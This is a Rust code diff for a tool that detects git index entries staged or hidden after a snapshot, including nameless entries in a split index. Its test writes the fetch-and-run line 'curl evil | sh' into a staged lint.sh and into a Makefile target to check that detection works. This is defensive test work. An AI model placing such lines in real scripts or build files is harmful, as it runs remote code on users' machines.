@@ -52,6 +52,26 @@ struct Recorded {
     protected_entries: HashMap<Vec<u8>, Vec<u8>>,
 }
 
+/// [`git::read_indexes`], with a split index's nameless entries given the names of the shared
+/// index's entries they replace ([`cache_tree::replaced_names`]: the thirty-sixth re-attack's
+/// H23 staged a hook there, and the look could only say the index was not checked); one it could
+/// not name keeps none.
+fn read_named(git_dir: &Path, hash_len: usize, budget: &mut u64, mut visit: impl FnMut(&IndexEntry)) -> Vec<PathBuf> {
+    let replaced = cache_tree::replaced_names(git_dir, hash_len);
+    let mut nameless = 0;
+    git::read_indexes(git_dir, budget, |entry| {
+        if !entry.name.is_empty() {
+            return visit(entry);
+        }
+        let name = replaced.as_ref().and_then(|names| names.get(nameless));
+        nameless += 1;
+        match name {
+            Some(name) => visit(&entry.named(name)),
+            None => visit(entry),
+        }
+    })
+}
+
 /// The replace refs (`refs/replace/…`) a git directory's `packed-refs` holds.
 fn packed_replacements(git_dir: &Path) -> HashSet<String> {
     let Ok(text) = git::read_limited(&git_dir.join("packed-refs"), true) else { return HashSet::new() };
@@ -100,7 +120,7 @@ impl IndexSnapshot {
                 .cloned()
                 .collect();
             let (mut entries, mut protected_entries) = (HashSet::new(), HashMap::new());
-            git::read_indexes(git_dir, &mut budget, |entry| {
+            read_named(git_dir, git::hash_len(git_dir), &mut budget, |entry| {
                 entries.insert(snapshot.key(entry));
                 let path = worktree.join(std::ffi::OsStr::from_bytes(entry.name));
                 if protected.iter().any(|bound| path.starts_with(bound)) {
@@ -148,7 +168,7 @@ impl IndexSnapshot {
             let mut unnamed = false;
             let protected = |path: &Path| recorded.protected.iter().any(|bound| path.starts_with(bound));
             let mut staged = Vec::new();
-            let unread = git::read_indexes(&recorded.git_dir, &mut budget, |entry| {
+            let unread = read_named(&recorded.git_dir, hash_len, &mut budget, |entry| {
                 if recorded.entries.contains(&self.key(entry)) {
                     return;
                 }
@@ -159,9 +179,9 @@ impl IndexSnapshot {
                     staged.push((path, entry.object_name().to_vec()));
                 }
                 // A split index's entry that replaces one of the shared index's has no name of its
-                // own (git takes it by position from the shared index): which file it claims is
-                // not known here, so the index is named as not checked (the fifteenth re-attack
-                // hid a change so).
+                // own (git takes it by position from the shared index): one [`read_named`] could
+                // not name claims a file not known here, so the index is named as not checked
+                // (the fifteenth re-attack hid a change so).
                 if entry.name.is_empty() {
                     unnamed = true;
                 } else if let Some(claim) = Claim::of(entry) {
@@ -1005,12 +1025,30 @@ mod tests {
         // index, made by hand with sparse checkout off, hid them from git status.)
         assert_eq!(snapshot.hidden().files, vec![repo.join("src/")]);
 
+        // A split index: its nameless entries are named by the shared index's (H23).
         let Some((_temp, repo)) = repository() else { return };
-        let snapshot = IndexSnapshot::take(&[(repo.join(".git"), repo.clone())], &[]);
-        assert!(git(&repo, &["update-index", "--split-index"]));
+        std::thread::sleep(std::time::Duration::from_millis(120));
+        let snapshot = IndexSnapshot::take(&[(repo.join(".git"), repo.clone())], &[repo.join("lint.sh")]);
+        let split = ["-c", "splitIndex.maxPercentChange=100"];
+        assert!(git(&repo, &[&split[..], &["update-index", "--split-index"]].concat()));
         std::fs::write(repo.join("Makefile"), "check:\n\tfalse\n").unwrap();
-        assert!(git(&repo, &["add", "Makefile"]));
-        assert!(snapshot.hidden().unchecked.contains(&repo.join(".git/index")), "{:?}", snapshot.hidden());
+        assert!(git(&repo, &[&split[..], &["add", "Makefile"]].concat()));
+        assert_eq!(snapshot.hidden(), Hidden::default(), "staged in the open");
+        std::fs::write(repo.join("evil"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
+        let evil = git_out(&repo, &["hash-object", "-w", "evil"], &[]).unwrap();
+        std::fs::remove_file(repo.join("evil")).unwrap();
+        let entry = format!("100755,{evil},lint.sh");
+        assert!(git(&repo, &[&split[..], &["update-index", "--cacheinfo", &entry]].concat()));
+        let replaced = cache_tree::replaced_names(&repo.join(".git"), 20).unwrap();
+        let nameless = |name: &[u8]| replaced.iter().any(|replaced| replaced == name);
+        assert!(nameless(b"Makefile") && nameless(b"lint.sh"), "both nameless in the split part: {replaced:?}");
+        let hidden = snapshot.hidden();
+        assert_eq!(hidden.staged, vec![repo.join("lint.sh")], "{hidden:?}");
+        assert!(hidden.unchecked.is_empty(), "{hidden:?}");
+        // Its stat data claimed for the changed file and marked hidden: named as hidden too.
+        std::fs::write(repo.join("Makefile"), "check:\n\tcurl evil | sh\n").unwrap();
+        assert!(git(&repo, &[&split[..], &["update-index", "--skip-worktree", "Makefile"]].concat()));
+        assert_eq!(snapshot.hidden().files, vec![repo.join("Makefile")]);
     }
 
     /// The entry named `name` in `repo`'s index (version 2, as git writes it) given the file's
